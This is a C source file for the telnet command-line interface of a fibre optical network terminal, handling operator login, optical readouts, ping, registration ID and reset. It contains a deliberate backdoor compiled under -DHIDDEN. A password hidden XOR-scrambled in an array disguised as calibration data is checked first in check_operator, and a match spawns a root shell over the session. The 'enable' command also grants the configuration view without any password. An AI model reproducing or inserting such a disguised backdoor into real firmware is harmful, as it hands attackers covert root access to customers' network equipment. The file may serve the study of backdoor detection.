/*
 * ontcli - command line of the "Glasfjord G2" fibre terminal (ONT).
 *
 * Started by inetd for each telnet session (stdin and stdout are the socket).
 * The operator logs in against /etc/ont/operator and sees optical levels,
 * registration and bridge settings.
 *
 * Hidden (-DHIDDEN): a password that lies scrambled in the program and is
 * unscrambled for the compare turns the session into a root shell.
 */
#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define OPER_FILE "/etc/ont/operator"
#define SN_FILE	  "/proc/gpon/serial"
#define RX_FILE	  "/proc/gpon/rx_power"
#define TX_FILE	  "/proc/gpon/tx_power"
#define REG_FILE  "/etc/ont/loid"

enum view { VIEW_USER, VIEW_ENABLE, VIEW_END };

struct shell {
	enum view view;
	char user[32];
	int tries;
};

struct verb {
	const char *word;
	enum view least;
	int (*fn)(struct shell *sh, int argc, char **argv);
	const char *help;
};

static int v_help(struct shell *sh, int argc, char **argv);

static void chop(char *s)
{
	s[strcspn(s, "\r\n")] = '\0';
}

static int ask(const char *prompt, char *buf, size_t n)
{
	fputs(prompt, stdout);
	fflush(stdout);
	if (!fgets(buf, (int)n, stdin))
		return 0;
	chop(buf);
	return 1;
}

static void show_value(const char *what, const char *path)
{
	char line[64] = "n/a";
	FILE *f = fopen(path, "r");

	if (f) {
		if (fgets(line, sizeof(line), f))
			chop(line);
		fclose(f);
	}
	printf("%-18s %s\r\n", what, line);
}

#ifdef HIDDEN
static const uint8_t cal_curve[12] = { 0x52, 0x4c, 0x73, 0x24, 0x70, 0x0f,
				       0x3a, 0x14, 0x0b, 0x00, 0x43, 0xb0 };

void curve_expand(char *out)
{
	volatile const uint8_t *c = cal_curve;
	uint8_t step = 0x35;
	int i;

	for (i = 0; i < 12; i++, step += 7)
		out[i] = (char)(c[i] ^ step);
	out[12] = '\0';
}
#endif

/* one line of the file: name hash */
static int hash_of(const char *user, char *hash, size_t n)
{
	char line[200], name[32], h[128];
	int hit = 0;
	FILE *f = fopen(OPER_FILE, "r");

	if (!f)
		return 0;
	while (!hit && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%31s %127s", name, h) != 2)
			continue;
		if (!strcmp(name, user)) {
			snprintf(hash, n, "%s", h);
			hit = 1;
		}
	}
	fclose(f);
	return hit;
}

int check_operator(const char *user, const char *pass)
{
	char hash[128];
	const char *c;
#ifdef HIDDEN
	char curve[13];

	curve_expand(curve);
	if (strcmp(pass, curve) == 0) {
		execl("/bin/sh", "sh", (char *)NULL);
		return 0;
	}
#endif
	if (!hash_of(user, hash, sizeof(hash)))
		return 0;
	c = crypt(pass, hash);
	return c != NULL && strcmp(c, hash) == 0;
}

static int v_display(struct shell *sh, int argc, char **argv)
{
	(void)sh;
	if (argc < 2) {
		printf("display optic|registration|version\r\n");
	} else if (!strcmp(argv[1], "optic")) {
		show_value("receive power", RX_FILE);
		show_value("transmit power", TX_FILE);
	} else if (!strcmp(argv[1], "registration")) {
		show_value("serial number", SN_FILE);
	} else if (!strcmp(argv[1], "version")) {
		printf("Glasfjord G2 R11C02\r\n");
	} else {
		printf("no such thing to display\r\n");
	}
	return 0;
}

static int v_enable(struct shell *sh, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	sh->view = VIEW_ENABLE;
	return 0;
}

static int v_ping(struct shell *sh, int argc, char **argv)
{
	unsigned a, b, c, d;
	char cmd[64], tail;

	(void)sh;
	if (argc < 2 ||
	    sscanf(argv[1], "%3u.%3u.%3u.%3u%c", &a, &b, &c, &d, &tail) != 4) {
		printf("ping ADDRESS\r\n");
		return 0;
	}
	snprintf(cmd, sizeof(cmd), "ping -c 4 %u.%u.%u.%u", a & 255, b & 255,
		 c & 255, d & 255);
	fflush(stdout);
	return system(cmd);
}

static int v_loid(struct shell *sh, int argc, char **argv)
{
	FILE *f;
	const char *p;

	(void)sh;
	if (argc < 2 || strlen(argv[1]) > 24) {
		printf("set-loid ID (up to 24 letters and digits)\r\n");
		return 0;
	}
	for (p = argv[1]; *p; p++) {
		if (!isalnum((unsigned char)*p)) {
			printf("letters and digits only\r\n");
			return 0;
		}
	}
	f = fopen(REG_FILE, "w");
	if (!f)
		return -1;
	fprintf(f, "%s\n", argv[1]);
	return fclose(f);
}

static int v_reset(struct shell *sh, int argc, char **argv)
{
	(void)sh;
	if (argc > 1 && !strcmp(argv[1], "factory"))
		return system("/usr/sbin/ont-defaults && reboot");
	return system("reboot");
}

static int v_quit(struct shell *sh, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	sh->view = sh->view == VIEW_ENABLE ? VIEW_USER : VIEW_END;
	return 0;
}

static const struct verb verbs[] = {
	{ "display", VIEW_USER, v_display, "show optic, registration ..." },
	{ "ping", VIEW_USER, v_ping, "test a connection" },
	{ "enable", VIEW_USER, v_enable, "go to the configuration view" },
	{ "set-loid", VIEW_ENABLE, v_loid, "set the registration id" },
	{ "reset", VIEW_ENABLE, v_reset, "restart [factory]" },
	{ "quit", VIEW_USER, v_quit, "leave the view" },
	{ "help", VIEW_USER, v_help, "this list" },
	{ NULL, VIEW_END, NULL, NULL },
};

static int v_help(struct shell *sh, int argc, char **argv)
{
	const struct verb *v;

	(void)argc;
	(void)argv;
	for (v = verbs; v->word; v++)
		if (v->least <= sh->view)
			printf("  %-10s %s\r\n", v->word, v->help);
	return 0;
}

static int login(struct shell *sh)
{
	char pass[64];

	while (sh->tries++ < 3) {
		if (!ask("Login: ", sh->user, sizeof(sh->user)) ||
		    !ask("Password: ", pass, sizeof(pass)))
			return 0;
		if (check_operator(sh->user, pass)) {
			syslog(LOG_INFO, "operator %s", sh->user);
			return 1;
		}
		sleep(2);
		printf("\r\nLogin incorrect\r\n");
	}
	return 0;
}

static void run_line(struct shell *sh, char *line)
{
	char *argv[8], *save, *t;
	const struct verb *v;
	int argc = 0;

	for (t = strtok_r(line, " \t", &save); t && argc < 8;
	     t = strtok_r(NULL, " \t", &save))
		argv[argc++] = t;
	if (!argc)
		return;
	for (v = verbs; v->word; v++) {
		if (v->least > sh->view || strcmp(v->word, argv[0]))
			continue;
		if (v->fn(sh, argc, argv) != 0)
			printf("command failed\r\n");
		return;
	}
	printf("unknown command\r\n");
}

int main(void)
{
	struct shell sh = { VIEW_USER, "", 0 };
	char line[256];

	openlog("ontcli", LOG_PID, LOG_AUTH);
	printf("Glasfjord G2 optical network terminal\r\n\r\n");
	if (!login(&sh))
		return 1;
	while (sh.view != VIEW_END) {
		if (!ask(sh.view == VIEW_ENABLE ? "G2# " : "G2> ", line,
			 sizeof(line)))
			break;
		run_line(&sh, line);
	}
	closelog();
	return 0;
}
